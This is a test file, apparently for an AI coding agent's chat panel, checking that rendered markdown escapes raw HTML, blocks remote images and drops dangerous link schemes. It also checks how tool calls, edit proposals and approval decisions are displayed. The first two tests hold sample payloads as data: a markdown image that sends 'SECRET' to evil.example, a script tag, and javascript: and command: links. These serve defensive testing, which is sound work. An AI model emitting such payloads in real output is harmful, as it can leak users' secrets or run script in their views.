import assert from "node:assert/strict";
import { test } from "node:test";
import { Conversation, type ClawEvent } from "../src/pure/conversation";
import { renderMarkdown } from "../src/pure/markdown";
import { renderConversation } from "../src/pure/render";

const options = { folderUris: ["file:///work/ws"] };
const event = (kind: string, fields: Record<string, unknown> = {}): ClawEvent => ({ session: "s", turn: 1, kind, ...fields });

test("remote images never become <img> and raw HTML is escaped", () => {
  const html = renderMarkdown(
    'See ![chart](https://evil.example/?q=SECRET) and ![ref][r] <img src="https://evil.example/x"> <script>alert(1)</script>\n\n[r]: https://evil.example/r.png',
  );
  assert.doesNotMatch(html, /<img/i);
  assert.doesNotMatch(html, /<script/i);
  assert.match(html, /\[image not loaded: chart\]/);
  assert.match(html, /&lt;img src=/);
});

test("dangerous link schemes are dropped, ordinary links stay", () => {
  const html = renderMarkdown("[a](javascript:alert(1)) [b](command:workbench.action.terminal.new) [c](https://docs.example/x)");
  assert.doesNotMatch(html, /href="javascript:/);
  assert.doesNotMatch(html, /href="command:/);
  assert.match(html, /href="https:\/\/docs\.example\/x"/);
});

test("tool calls render collapsed, with escaped arguments", () => {
  const conversation = new Conversation();
  conversation.apply(event("toolCall", { id: "1", name: "shell", arguments: { command: "echo '<b>'" } }));
  const html = renderConversation(conversation.view, options);
  assert.match(html, /<details class="item tool tool-running"/);
  assert.doesNotMatch(html, /<details[^>]* open/);
  assert.match(html, /echo &#39;&lt;b&gt;&#39;/);
});

test("a pending proposal has Accept/Reject buttons carrying its id; a decided one has none", () => {
  const conversation = new Conversation();
  conversation.apply(event("proposal", { proposal: 'p"1', uri: "file:///work/ws/src/a.py", diff: "-a\n+b" }));
  let html = renderConversation(conversation.view, options);
  assert.match(html, /data-action="acceptProposal" data-proposal="p&quot;1"/);
  assert.match(html, /data-action="rejectProposal"/);
  assert.match(html, />src\/a\.py</);
  conversation.setProposalState('p"1', "accepted");
  html = renderConversation(conversation.view, options);
  assert.doesNotMatch(html, /data-action="acceptProposal"/);
  assert.match(html, /accepted/);
});

test("edits link to their diff; approvals and stop reasons are shown", () => {
  const conversation = new Conversation();
  conversation.startLocalTurn("fix <it>");
  conversation.apply(event("approval", { tool: "edit_file", decision: "deny" }));
  conversation.apply(event("edit", { uri: "file:///work/ws/demo.py", applied: true }));
  conversation.apply(event("done", { stopReason: "cancelled" }));
  const html = renderConversation(conversation.view, options);
  assert.match(html, /fix &lt;it&gt;/);
  assert.match(html, /data-action="openEditDiff" data-key="s:1:file:\/\/\/work\/ws\/demo\.py"/);
  assert.match(html, /class="item approval denied"/);
  assert.match(html, /class="turn-status stop-cancelled">Cancelled</);
});

test("an empty conversation explains how to start", () => {
  assert.match(renderConversation([], options), /Type below to ask the agent/);
  assert.match(renderConversation([], options), /Ctrl\+Alt\+A/);
});

test("approval decisions read as words and are coloured by outcome", () => {
  const conversation = new Conversation();
  conversation.apply(event("approval", { tool: "write_file", decision: "once" }));
  conversation.apply(event("approval", { tool: "shell", decision: "session" }));
  conversation.apply(event("approval", { tool: "shell", decision: "timeout" }));
  const html = renderConversation(conversation.view, options);
  assert.match(html, /class="item approval allowed">Approval for <b>write_file<\/b>: allowed once/);
  assert.match(html, /class="item approval allowed">Approval for <b>shell<\/b>: allowed for this session/);
  assert.match(html, /class="item approval denied">Approval for <b>shell<\/b>: denied \(no answer\)/);
});
